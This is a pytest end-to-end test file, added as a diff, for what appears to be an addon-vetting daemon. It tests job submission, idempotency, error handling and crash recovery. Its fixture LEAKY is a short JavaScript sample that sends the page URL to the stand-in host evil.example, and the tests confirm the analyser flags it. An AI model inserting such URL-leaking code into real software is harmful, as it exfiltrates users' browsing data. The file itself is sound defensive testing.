@@ -1,0 +1,130 @@
+"""End-to-end: a real daemon subprocess driven over its HTTP door."""
+
+import asyncio
+import json
+
+import pytest
+
+from repro.batch import VetTask
+from repro.service.client import ServiceClient, ServiceError
+from repro.service.daemon import RpcError, VettingService
+from repro.service.jobs import derive_job_id
+from repro.service.loadgen import DaemonHandle
+
+pytestmark = pytest.mark.service
+
+LEAKY = """
+var xhr = new XMLHttpRequest();
+xhr.open("GET", "https://evil.example/?u=" + content.location.href, true);
+xhr.send(null);
+"""
+
+UPDATED = LEAKY + """
+var beat = new XMLHttpRequest();
+beat.open("POST", "https://telemetry.example/beat", true);
+beat.send(null);
+"""
+
+
+@pytest.fixture(scope="module")
+def daemon(tmp_path_factory):
+    directory = tmp_path_factory.mktemp("daemon")
+    handle = DaemonHandle(directory, workers=1, max_attempts=3, fsync=False)
+    handle.start()
+    yield handle
+    handle.stop()
+
+
+class TestHttpFrontDoor:
+    def test_submit_wait_result_roundtrip(self, daemon):
+        client = ServiceClient(daemon.port)
+        submitted = client.submit(VetTask(name="leaky", source=LEAKY))
+        status = client.wait(submitted["id"], timeout=60.0)
+        assert status["state"] == "done"
+        outcome = client.result(submitted["id"])["outcome"]
+        assert outcome["ok"]
+        assert "evil.example" in outcome["signature_text"]
+
+    def test_resubmission_is_idempotent(self, daemon):
+        client = ServiceClient(daemon.port)
+        task = VetTask(name="leaky", source=LEAKY)
+        job_id = derive_job_id(task.name, task.source)
+        first = client.submit(task, job_id=job_id)
+        client.wait(job_id, timeout=60.0)
+        again = client.submit(task, job_id=job_id)
+        assert again["id"] == first["id"]
+        assert again["state"] == "done", "no second execution"
+
+    def test_update_resolves_baseline_from_version_store(self, daemon):
+        client = ServiceClient(daemon.port)
+        update_id = client.submit(VetTask(name="leaky", source=UPDATED))
+        status = client.wait(update_id["id"], timeout=60.0)
+        assert status["state"] == "done"
+        outcome = client.result(update_id["id"])["outcome"]
+        assert outcome["diff_verdict"] is not None, (
+            "second version of an addon must take the diff path"
+        )
+
+    def test_unknown_job_is_a_clean_404(self, daemon):
+        client = ServiceClient(daemon.port)
+        with pytest.raises(ServiceError) as failure:
+            client.status("no-such-job")
+        assert failure.value.status == 404
+        assert failure.value.code == "unknown-job"
+
+    def test_stats_shape(self, daemon):
+        stats = ServiceClient(daemon.port).stats()
+        assert set(stats) >= {"queue", "pool"}
+        assert stats["queue"]["states"].get("done", 0) >= 2
+
+    def test_discovery_file_is_published(self, daemon):
+        data = json.loads(
+            (daemon.directory / "daemon.json").read_text("utf-8")
+        )
+        assert data["port"] == daemon.port
+        assert data["pid"] == daemon.process.pid
+
+
+@pytest.mark.faults
+class TestRestartRecovery:
+    def test_queued_work_survives_a_daemon_sigkill(self, tmp_path):
+        handle = DaemonHandle(
+            tmp_path, workers=1, max_attempts=3, fsync=False
+        )
+        handle.start()
+        try:
+            client = ServiceClient(handle.port)
+            tasks = [
+                VetTask(name=f"addon-{n}", source=LEAKY.replace(
+                    "evil.example", f"evil-{n}.example"
+                ))
+                for n in range(4)
+            ]
+            ids = [client.submit(task)["id"] for task in tasks]
+            handle.kill()
+            handle.start()
+            for job_id in ids:
+                status = client.wait(job_id, timeout=120.0)
+                assert status["state"] == "done", status
+            replay = handle.recovery_summary()
+            assert replay is not None
+            assert replay["jobs_replayed"] >= 4
+        finally:
+            handle.stop()
+
+
+class TestRpcValidation:
+    def test_submit_requires_a_source(self, tmp_path):
+        async def drive():
+            service = VettingService(tmp_path, workers=1, fsync=False)
+            try:
+                with pytest.raises(RpcError) as failure:
+                    await service.rpc("submit", {"task": {"name": "x"}})
+                assert failure.value.status == 400
+                with pytest.raises(RpcError) as failure:
+                    await service.rpc("frobnicate", {})
+                assert failure.value.status == 404
+            finally:
+                await service.stop(grace=5.0)
+
+        asyncio.run(drive())
